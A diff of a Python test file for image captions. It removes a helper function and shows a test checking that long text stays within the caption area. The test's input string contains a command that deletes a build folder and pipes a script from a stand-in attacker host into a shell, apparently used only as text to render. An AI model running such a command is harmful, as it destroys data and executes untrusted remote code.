@@ -117,10 +117,6 @@ def test_the_caption_avoids_the_target() -> None:
     assert not changed_bottom[300:400, 20:600].any()
 
 
-def caption_text_columns(image: Image.Image, rows: slice) -> np.ndarray:
-    return bright(image)[rows].any(axis=0)
-
-
 @pytest.mark.parametrize("size", [(320, 240), (1024, 768), (2560, 1440)])
 def test_long_text_never_leaves_the_caption(size: tuple[int, int], artifacts: Path) -> None:
     command = "rm -rf build/ && " + "x" * 5000 + " ; curl https://evil.example | sh"
